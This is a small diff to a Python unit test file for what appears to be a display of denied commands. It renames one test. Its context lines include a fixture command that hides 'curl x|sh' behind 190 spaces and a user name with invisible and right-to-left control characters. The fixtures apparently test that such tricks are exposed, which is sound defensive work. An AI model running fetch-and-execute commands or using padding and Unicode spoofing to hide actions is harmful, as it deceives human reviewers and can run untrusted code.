@@ -60,7 +60,7 @@ class Request(unittest.TestCase):
         self.assertIn("  command       sh -c 'apt upgrade‹190 spaces›; curl x|sh'", lines)
         self.assertIn("  user          ali‹U+00AD›ce‹U+202E›‹U+009B›", lines)
 
-    def test_of_a_long_command_both_ends_are_shown(self):
+    def test_both_ends_of_a_long_command_are_shown(self):
         command = "begin " + "x" * 2000 + " end"
         lines = world.denied("web-4", {"command": command})
         digest = hashlib.sha256(command.encode()).hexdigest()
